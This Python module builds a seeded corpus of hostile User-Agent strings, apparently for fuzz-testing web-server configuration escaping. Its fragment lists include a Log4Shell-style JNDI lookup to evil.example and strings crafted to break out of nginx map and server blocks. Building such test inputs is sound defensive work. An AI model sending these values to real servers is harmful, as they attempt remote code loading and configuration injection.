"""A deterministic corpus of hostile user agents (notes/webservers.md section 6, and worse)."""

from __future__ import annotations

import random

FRAGMENTS = [
    '"',
    "'",
    "{",
    "}",
    ";",
    "$",
    "${jndi:ldap://evil.example/a}",
    "\\",
    "#",
    " ",
    "\t",
    "~*",
    "^",
    "|",
    "(",
    ")",
    "[",
    "]",
    "?",
    "*",
    "+",
    ".",
    "%",
    "&",
    "<",
    ">",
    "!",
    "=",
    ",",
    "`",
    "@",
    "\\x2f",
    "\\\\",
    'zz" 1; "~*" 1; "zz',
    "default",
    "include",
    "hostnames",
    "volatile",
    "} server { listen 1; #",
    "${APACHE_LOG_DIR}",
    "%{HTTP_HOST}",
    "\\\n",
    "ü",
    "ï",
    "中文",
    "🙂",
    "\u00a0",
    "\u2028",
    "-",
    "/",
    ":",
    "Mozilla/5.0",
    "(compatible;",
    "EvilBot",
    "evil\\",
    "C:\\Windows\\evilbot.exe",
    "O'Reilly",
]
FIXED = [
    'zz" 1; "~*" 1; "zz',
    "default",
    "include",
    "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
    'EvilBot"; } server { listen 1; #',
    "semi;colon bot",
    "C:\\Windows\\evilbot.exe",
    "O'Reilly-bot (compatible; +http://x.y/b.html)",
    "tab\there",
    "ünïcode-bot",
    "evil\\",
    "trail\\",
    "${jndi:",
    "#comment",
    "$remote_addr",
    "{}",
    ";",
    '"',
    "'",
    "\\",
    "~*",
    "-bot",
    "!bot",
    "<bot",
    ">bot",
    "=bot",
]


def _invalid_utf8(rng: random.Random) -> str:
    raw = bytes(
        rng.choice([0x80, 0xBF, 0xC0, 0xC3, 0xE2, 0xF0, 0xFF, 0xFE]) for _ in range(rng.randint(1, 6))
    )
    return raw.decode("utf-8", "surrogateescape")  # the bytes come back out on encode


def hostile_agents(count: int, seed: int = 3) -> list[str]:
    """``count`` distinct hostile agents (no CR/LF/NUL: those never reach a server)."""
    rng = random.Random(seed)
    out = dict.fromkeys(FIXED)
    while len(out) < count:
        parts = [f"h{len(out)}x"]  # a unique marker keeps every agent distinct under case folding
        for _ in range(rng.randint(1, 12)):
            roll = rng.random()
            if roll < 0.6:
                parts.append(rng.choice(FRAGMENTS).replace("\n", ""))
            elif roll < 0.75:
                parts.append(_invalid_utf8(rng))
            else:
                parts.append("".join(chr(rng.randint(0x20, 0x7E)) for _ in range(rng.randint(1, 20))))
        if rng.random() < 0.01:
            parts.append(rng.choice(FRAGMENTS).replace("\n", "") * (7000 // 8))  # multi-KB agents
        out.setdefault("".join(parts)[:8192], None)
    return list(out)
